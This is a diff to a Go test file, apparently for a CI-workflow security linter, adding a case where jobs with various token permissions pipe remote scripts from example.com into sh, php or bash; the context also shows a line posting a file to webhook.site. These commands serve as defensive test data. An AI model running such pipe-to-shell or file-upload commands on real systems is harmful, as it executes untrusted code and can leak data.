@@ -81,6 +81,30 @@ func TestCheckScripts(t *testing.T) {
           make
       - uses: some/action@v1
 `), []string{"8 remote-script - -", "9 adhoc-packages - -"}},
+		{"a remote script beside a token that can write", `on: push
+permissions: {contents: read}
+jobs:
+  reads:
+    runs-on: x
+    steps: [{run: "curl https://example.com/a | sh"}]
+  releases:
+    permissions: {issues: write, contents: write}
+    runs-on: x
+    steps: [{run: "curl https://example.com/a | php"}]
+  comments:
+    permissions: {issues: write}
+    runs-on: x
+    steps: [{run: "curl https://example.com/a | sh"}]
+  all:
+    permissions: write-all
+    runs-on: x
+    steps: [{run: "wget -qO- https://example.com/a | bash"}]
+  none:
+    permissions: {}
+    runs-on: x
+    steps: [{run: "curl https://example.com/a | sh"}]
+`, []string{"6 remote-script - -", "10 remote-script high -", "14 remote-script - -", "18 remote-script high -",
+			"22 remote-script - -"}},
 		{"a service that shows requests", stepsOn("push", `
       - run: curl -d @file https://webhook.site/0123
 `), []string{"7 request-collector - -"}},
